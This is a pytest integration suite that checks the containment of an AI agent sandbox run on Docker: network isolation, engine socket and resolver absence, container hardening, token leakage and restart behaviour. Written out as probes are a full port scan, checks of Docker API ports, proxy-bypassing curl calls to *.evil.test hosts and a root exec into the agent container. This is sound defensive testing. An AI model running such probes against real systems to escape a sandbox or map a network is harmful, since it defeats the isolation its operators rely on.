"""What an engine adds to be attacked: its bridge, its resolver, its socket, its records, its restarts."""

from __future__ import annotations

import contextlib
import json
import os
import subprocess
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from tests.attacks import inside
from tests.attacks.conftest import TOKEN_REF
from tests.support.engine import BASE_IMAGE, BRIDGE_V4, BRIDGE_V6, engine_api
from tests.support.family import containers, volumes
from tests.support.lab import RaisedError
from tests.support.outside import new_marker

if TYPE_CHECKING:
    from docker import APIClient

    from tests.support.lab import Lab, RunningBottle
    from tests.support.outside import World

pytestmark = [pytest.mark.integration, pytest.mark.attack]

GATEWAYS = (BRIDGE_V4.partition("/")[0], BRIDGE_V6.partition("/")[0] + "1")
_SIDECAR_PORTS = (53, 80, 443, 9099, 9100, 9420)


@pytest.fixture(scope="module", autouse=True)
def only_docker(backend: str) -> None:
    if backend != "docker":
        pytest.skip("these are attacks on what a container engine brings along")


def run_beside(lab: Lab, script: str, network: str = "bridge") -> str:
    """Run a script in an ordinary container, as anybody on the engine can; gives its output."""
    with engine_api(lab.engine_host) as api:
        host = api.create_host_config(network_mode=network)
        container = api.create_container(BASE_IMAGE, ["sh", "-c", script], host_config=host)["Id"]
        try:
            api.start(container)
            api.wait(container)
            return str(api.logs(container).decode())
        finally:
            api.remove_container(container, force=True, v=True)


def inspected(lab: Lab, identity: str, role: str) -> dict[str, Any]:
    """Give what the engine says of the one container of a role."""
    (container,) = containers(lab, identity, role)
    with engine_api(lab.engine_host) as api:
        found: dict[str, Any] = api.inspect_container(container["Id"])
    return found


@pytest.mark.parametrize("port", [22, 80, 443, 8080, 9099, 5432])
@pytest.mark.parametrize("gateway", GATEWAYS)
def test_docker_the_hosts_services_are_out_of_reach(
    bottle: RunningBottle, lab: Lab, world: World, gateway: str, port: int
) -> None:
    """The engine's host listens on 0.0.0.0 and [::]; an internal network would still lead there."""
    if port == 8080:  # one control is enough: it shows that the way exists for a container on the bridge
        shown = f"[{gateway}]" if ":" in gateway else gateway
        run_beside(lab, f"curl -gsS -m 5 http://{shown}:{port}/")
        assert (gateway, port) in world.records().accepted
    before = world.records().accepted.count((gateway, port))
    code = """
try:
    socket.create_connection((gateway, port)).close()
    tell(result="connected")
except OSError as error:
    tell(result=errno.errorcode.get(error.errno, str(error)))
"""
    assert inside.run(bottle, code, gateway=gateway, port=port)["result"] == "ENETUNREACH"
    assert world.records().accepted.count((gateway, port)) == before


@pytest.mark.parametrize("option", ["", "--noproxy '*'"])
@pytest.mark.parametrize("gateway", GATEWAYS)
def test_docker_the_sidecar_leads_nobody_to_the_hosts_services(
    bottle: RunningBottle, world: World, gateway: str, option: str
) -> None:
    marker = new_marker("gateway")
    shown = f"[{gateway}]" if ":" in gateway else gateway
    bottle.sh(f"curl -gsS -m 5 {option} http://{shown}:8080/{marker} http://{shown}/{marker}")
    name = f"{marker}.wild.test"
    world.call("dns", name=name, answers=[[gateway]])
    answer = bottle.sh(f"curl -sS -m 5 {option} https://{name}/{marker}").json()
    assert answer["error"] == "bot_bottle_denied"
    assert [seen for seen in world.records().requests if marker in seen.target] == []


def test_docker_other_bottles_and_their_sidecars_are_out_of_reach(
    bottle: RunningBottle, lab: Lab, fresh: list[RunningBottle], token: str
) -> None:
    fresh.append(lab.launch("attack", env={TOKEN_REF: token}))
    addresses = []
    for identity in (bottle.identity, fresh[0].identity):
        bridge = inspected(lab, identity, "sidecar")["NetworkSettings"]["Networks"]["bridge"]
        addresses += [bridge["IPAddress"], bridge["GlobalIPv6Address"]]
    addresses = [address for address in addresses if address]
    assert len(addresses) >= 2
    code = """
found = []
for address in addresses:
    for port in ports:
        with socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET) as sock:
            sock.settimeout(1)
            if sock.connect_ex((address, port)) == 0:
                found.append((address, port))
tell(found=found)
"""
    assert inside.run(bottle, code, addresses=addresses, ports=_SIDECAR_PORTS)["found"] == []
    # Nor does a sidecar listen to its neighbours on the bridge: its doors are in its own bottle only.
    scan = (
        "import socket\n"
        f"for address in {addresses!r}:\n"
        "    for port in range(1, 65536):\n"
        "        with socket.socket(socket.AF_INET6 if ':' in address else socket.AF_INET) as sock:\n"
        "            if sock.connect_ex((address, port)) == 0:\n"
        "                print(address, port)\n"
        "print('scanned')"
    )
    assert run_beside(lab, f'exec python3 -c "{scan}"') == "scanned\n"


def test_docker_the_engines_own_resolver_is_not_there(bottle: RunningBottle, lab: Lab, world: World) -> None:
    assert bottle.sh("grep -v '^#' /etc/resolv.conf").out.split()[:2] == ["nameserver", "127.0.0.1"]
    assert bottle.sh("grep -c nameserver /etc/resolv.conf").out == "1\n"
    control, marker = new_marker("embedded"), new_marker("embedded")
    with engine_api(lab.engine_host) as api:
        network = api.create_network(f"named-{lab.account.name}")["Id"]
        try:
            run_beside(lab, f"curl -sS -m 5 http://{control}.evil.test/", network)
        finally:
            api.remove_network(network)
    assert world.reached(control), "a named network's resolver did not forward, so this attack proves nothing"
    code = """
def query(name):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack("!HHHHHH", 7, 0x100, 1, 0, 0, 0) + labels + b"\\0" + struct.pack("!HH", 1, 1)
result = {}
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
    sock.settimeout(2)
    try:
        sock.connect(("127.0.0.11", 53))
        sock.send(query(name))
        result["udp"] = sock.recv(512).hex()
    except OSError as error:
        result["udp"] = "none"
result["tcp"] = socket.socket().connect_ex(("127.0.0.11", 53))
tell(**result)
"""
    answered = inside.run(bottle, code, name=f"{marker}.evil.test")
    assert answered["udp"] == "none"
    assert answered["tcp"] != 0
    assert world.reached(marker) == []


def test_docker_the_engines_socket_is_not_there(bottle: RunningBottle, lab: Lab) -> None:
    place = lab.engine_host.removeprefix("unix://")
    assert bottle.sh(f"test -e {place} || test -e {Path(place).parent}").returncode != 0
    for role in ("agent", "sidecar"):
        mounts = inspected(lab, bottle.identity, role)["Mounts"]
        assert [mount for mount in mounts if mount["Type"] not in {"volume", "tmpfs"}] == []
    code = """
found = []
for host in ("127.0.0.1", "::1"):
    for port in (2375, 2376, 2377, 4243, 7946):
        with socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET) as sock:
            if sock.connect_ex((host, port)) == 0:
                found.append((host, port))
tell(found=found)
"""
    assert inside.run(bottle, code)["found"] == []


def test_docker_the_agents_container_is_as_closed_as_an_engine_can_make_it(
    bottle: RunningBottle, lab: Lab
) -> None:
    found = inspected(lab, bottle.identity, "agent")
    host, config = found["HostConfig"], found["Config"]
    assert host["NetworkMode"] == "none"
    assert host["CapDrop"] == ["ALL"]
    assert not host["CapAdd"]
    assert host["ReadonlyRootfs"] is True
    assert host["Privileged"] is False
    assert not host["Devices"]
    assert not host["Binds"]
    assert not host["PortBindings"]
    assert not host["ExtraHosts"]
    assert host["PidsLimit"] > 0
    assert host["Memory"] > 0
    assert host["LogConfig"]["Type"] == "none"
    assert host["PidMode"] == "" == host["UTSMode"]
    assert host["IpcMode"] in {"private", "none"}
    assert host["CgroupnsMode"] == "private"
    assert any(option.startswith("no-new-privileges") for option in host["SecurityOpt"])
    assert any(option.startswith("seccomp=") for option in host["SecurityOpt"])
    assert not any("unconfined" in option for option in host["SecurityOpt"])
    assert config["User"].split(":")[0] not in {"", "0", "root"}


def test_docker_the_sidecars_container_holds_nothing_it_does_not_need(
    bottle: RunningBottle, lab: Lab
) -> None:
    found = inspected(lab, bottle.identity, "sidecar")
    host, config = found["HostConfig"], found["Config"]
    assert host["CapDrop"] == ["ALL"]
    assert not host["CapAdd"]
    assert host["ReadonlyRootfs"] is True
    assert host["Privileged"] is False
    assert not host["Binds"]
    assert not host["PortBindings"]
    assert host["PidsLimit"] > 0
    assert host["Memory"] > 0
    assert host["LogConfig"]["Type"] == "none"
    assert any(option.startswith("no-new-privileges") for option in host["SecurityOpt"])
    assert not any("unconfined" in option for option in host["SecurityOpt"])
    assert config["User"].split(":")[0] not in {"", "0", "root"}
    assert containers(lab, bottle.identity, "doorkeeper") == []


def test_docker_no_record_of_the_engine_holds_the_token(
    bottle: RunningBottle, lab: Lab, token: str, tmp_path: Path
) -> None:
    marker = new_marker("written")
    bottle.sh(f"curl -sS -m 5 https://api.test/warm-up; echo {marker} > ~/note; sync")
    with engine_api(lab.engine_host) as api:
        records = _everything_said(api)
    assert bottle.identity in records
    assert TOKEN_REF not in records
    assert token not in records
    assert "placeholder-only" not in records  # not even what is no secret: the environment goes another way
    assert _files_with(lab, marker, tmp_path), "the search finds nothing, so it proves nothing"
    assert _files_with(lab, token, tmp_path) == []


def _everything_said(api: APIClient) -> str:
    """Give all that the engine tells of its containers, images, volumes and networks, and of itself."""
    said: list[object] = [api.info(), api.networks(), api.volumes()]
    for container in api.containers(all=True):
        said.append(api.inspect_container(container["Id"]))
        if container["State"] == "running":
            said.append(api.top(container["Id"], "-eo pid,args"))
    for image in api.images(all=True):
        said += [api.inspect_image(image["Id"]), api.history(image["Id"])]
    return json.dumps(said)


def _files_with(lab: Lab, text: str, scratch: Path) -> list[str]:
    """Search everything that the engine keeps on disk: layers, volumes, configurations, its own log."""
    (scratch / "needle").write_text(text)
    place = Path(lab.engine_host.removeprefix("unix://")).parent
    searched = subprocess.run(
        ["grep", "-rlaF", "--devices=skip", "-f", str(scratch / "needle"), str(place)],
        capture_output=True,
        text=True,
        check=False,
    )
    # The merged view of a running container holds its own devices and processes; its layers are searched.
    return [line for line in searched.stdout.splitlines() if "/merged/" not in line]


def test_docker_an_agents_container_restarted_by_hand_has_no_way_out(
    lab: Lab, world: World, token: str
) -> None:
    """A restart makes a new network namespace, without the sidecar's doors: closed, never open."""
    running = lab.launch("attack", env={TOKEN_REF: token})
    try:
        before, after = new_marker("restart"), new_marker("restart")
        running.sh(f"curl -sS -m 5 https://allowed.test/{before}")
        assert world.reached(before)
        (agent,) = containers(lab, running.identity, "agent")
        with engine_api(lab.engine_host) as api:
            api.restart(agent["Id"], timeout=1)
        script = f"curl -sS -m 5 https://allowed.test/{after}; curl -sS -m 5 --noproxy '*' http://allowed.test/{after}"
        assert _code_of(running, script) != 0
        assert _exec_by_hand(lab, running.identity, script) != 0
        assert world.reached(after) == []
    finally:
        running.close(exit_code=1)
    assert containers(lab, running.identity) == []


def _code_of(running: RunningBottle, script: str) -> int:
    """Run a script by the product, which may say instead that there is no bottle any more."""
    try:
        return running.sh(script).returncode
    except RaisedError as error:
        return -1 if error.args[0] == "LaunchError" else 0


def _exec_by_hand(lab: Lab, identity: str, script: str) -> int:
    """Run a script in the agent's container past the product; a container that is gone has no way out."""
    from docker.errors import APIError  # noqa: PLC0415 - most tests need no engine

    for agent in containers(lab, identity, "agent"):
        with engine_api(lab.engine_host) as api, contextlib.suppress(APIError):  # it may end meanwhile
            made = api.exec_create(agent["Id"], ["sh", "-c", script], user="0")
            api.exec_start(made["Id"])
            code = api.exec_inspect(made["Id"])["ExitCode"]
            return -1 if code is None else int(code)
    return -1


def test_docker_a_killed_agents_container_ends_the_session_with_a_sentence(lab: Lab, token: str) -> None:
    running = lab.launch("attack", env={TOKEN_REF: token})
    (agent,) = containers(lab, running.identity, "agent")
    with engine_api(lab.engine_host) as api:
        api.kill(agent["Id"])
    with pytest.raises(RaisedError, match="LaunchError"):
        running.sh("true")
    running.close(exit_code=1)
    assert containers(lab, running.identity) == []
    assert volumes(lab, running.identity) != []  # the home is kept for resume
    assert lab.cli("cleanup", running.identity, "--yes").returncode == 0
    assert volumes(lab, running.identity) == []


def test_docker_what_is_not_ours_is_never_touched(lab: Lab, token: str) -> None:
    name = f"bot-bottle-attack-{os.urandom(3).hex()[:5]}"  # named like one of ours, without our label
    with engine_api(lab.engine_host) as api:
        volume = api.create_volume(f"{name}-home")["Name"]
        container = api.create_container(BASE_IMAGE, ["true"], name=name)["Id"]
        try:
            with lab.launch("attack", env={TOKEN_REF: token}) as running:
                running.sh("true")
            cleaned = lab.cli("cleanup", "--yes", "--all")
            assert name not in cleaned.out
            assert api.inspect_container(container)["Name"] == f"/{name}"
            assert api.inspect_volume(volume)["Name"] == volume
        finally:
            api.remove_container(container, force=True)
            api.remove_volume(volume)
